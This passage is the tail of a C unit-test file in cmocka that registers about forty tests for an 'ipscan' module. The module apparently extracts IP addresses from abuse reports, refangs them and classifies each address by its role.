	    cmocka_unit_test(test_ipscan_embedded_text_gives_no_hints),
	    cmocka_unit_test(test_ipscan_table_columns_name_roles),
	    cmocka_unit_test(test_ipscan_table_ends_at_blank_line),
	    cmocka_unit_test(test_ipscan_role_words_of_every_file),
	    cmocka_unit_test(test_ipscan_skips_product_versions),
	    cmocka_unit_test(test_ipscan_keeps_address_in_url_path),
	    cmocka_unit_test(test_ipscan_label_on_previous_line_counts),
	    cmocka_unit_test(test_ipscan_finds_defanged_addresses),
	    cmocka_unit_test(test_ipscan_finds_address_after_key_colon),
	    cmocka_unit_test(test_ipscan_finds_bracketed_ipv6_in_url),
	    cmocka_unit_test(test_ipscan_canonicalises_uppercase_ipv6),
	    cmocka_unit_test(test_ipscan_skips_ranges_and_networks),
	    cmocka_unit_test(test_ipscan_rejects_five_part_numbers),
	    cmocka_unit_test(test_ipscan_ignores_unspecified_address),
	    cmocka_unit_test(test_ipscan_arrow_marks_destination),
	    cmocka_unit_test(test_ipscan_column_side_after_ip),
	    cmocka_unit_test(test_ipscan_hosted_by_the_reporter_is_victim),
	    cmocka_unit_test(test_ipscan_said_to_have_no_part_is_mentioned),
	    cmocka_unit_test(test_ipscan_words_after_a_list),
	    cmocka_unit_test(test_ipscan_reporters_scanner_is_mentioned),
	    cmocka_unit_test(test_ipscan_refang_restores_dots_and_scheme),
	    cmocka_unit_test(test_ipscan_caps_distinct_addresses),
	    cmocka_unit_test(test_ipscan_cues_match_in_any_case),
	    cmocka_unit_test(test_ipscan_cue_counts_once),
	    cmocka_unit_test(test_ipscan_far_cue_counts_half),
	    cmocka_unit_test(test_ipscan_cue_needs_word_start),
	    cmocka_unit_test(test_ipscan_skips_times_and_dates),
	    cmocka_unit_test(test_ipscan_finds_ipv6_starting_with_letter),
	    cmocka_unit_test(test_ipscan_finds_plain_and_defanged_together),
	    cmocka_unit_test(test_ipscan_refang_copies_plain_text_unchanged),
	    cmocka_unit_test(test_ipscan_find_sees_what_addresses_records),
	    cmocka_unit_test(test_ipscan_find_stops_when_asked),
	    cmocka_unit_test(test_ipscan_passive_gateway_and_five_languages),
	    cmocka_unit_test(test_ipscan_tcpdump_flow_ends),
	    cmocka_unit_test(test_ipscan_port_after_slash),
	    cmocka_unit_test(test_ipscan_names_host),
	    cmocka_unit_test(test_ipscan_passive_agent_after_our_server),
	    cmocka_unit_test(test_ipscan_pipe_cell_and_turkish_sides),
	    cmocka_unit_test(test_ipscan_romanian_cel_and_customer_of_yours),
	    cmocka_unit_test(
		test_ipscan_dealt_with_other_network_submitter_own_blog),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
